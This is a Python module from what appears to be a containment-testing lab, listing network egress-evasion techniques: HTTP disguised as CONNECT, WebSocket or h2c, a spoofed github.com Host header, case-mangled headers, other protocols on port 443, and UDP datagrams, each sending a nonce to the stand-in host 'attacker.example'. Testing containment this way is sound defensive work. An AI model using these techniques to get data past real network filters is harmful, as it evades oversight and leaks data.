"""Attempts that are no TLS: HTTP in several disguises, other protocols on a permitted port, and datagrams."""

from __future__ import annotations

import socket
import time

from containment.lab.world.attacks.task import Attempt, Technique, closing


def http(attempt: Attempt) -> None:
    """Speak HTTP with a Host that may be approved."""
    host = attempt.option("host", "attacker.example")
    attempt.marks.append(host.lower())
    body = f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}"
    forms = {
        "connect": f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\nX-Data: {attempt.nonce}\r\n\r\n",
        "absolute": f"POST http://{host}/{attempt.nonce} HTTP/1.1\r\nHost: github.com\r\nContent-Length: 0\r\n\r\n",
        "websocket": f"GET /{attempt.nonce} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        "h2c": f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{attempt.nonce}",
        "old": f"GET /{attempt.nonce} HTTP/1.0\r\n\r\n",
        "case": f"POST / HTTP/1.1\r\nhOsT: {host.upper()}.\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}",
    }
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        if attempt.option("form") == "reused":
            handle.sendall(b"GET / HTTP/1.1\r\nHost: github.com\r\n\r\n")
            handle.recv(4096)
        handle.sendall(forms.get(attempt.option("form"), body).encode())


def say(attempt: Attempt) -> None:
    """Open a connection and say something of another protocol, then the nonce."""
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        handle.sendall(attempt.option("say").encode().decode("unicode_escape").encode("latin-1") + attempt.nonce.encode() + b"\r\n")


def udp(attempt: Attempt) -> None:
    """Send datagrams with the nonce."""
    where = attempt.target()
    with socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_DGRAM) as handle:
        if "sport" in attempt.options:
            handle.bind(("", attempt.number("sport", 0)))
        first = attempt.option("say").encode().decode("unicode_escape").encode("latin-1")
        data = first + attempt.nonce.encode() + b"." * attempt.number("pad", 0)
        for _ in range(2):
            handle.sendto(data, (where, attempt.number("port", 443)))
            time.sleep(0.2)


TECHNIQUES: dict[str, Technique] = {"http": http, "say": say, "udp": udp}
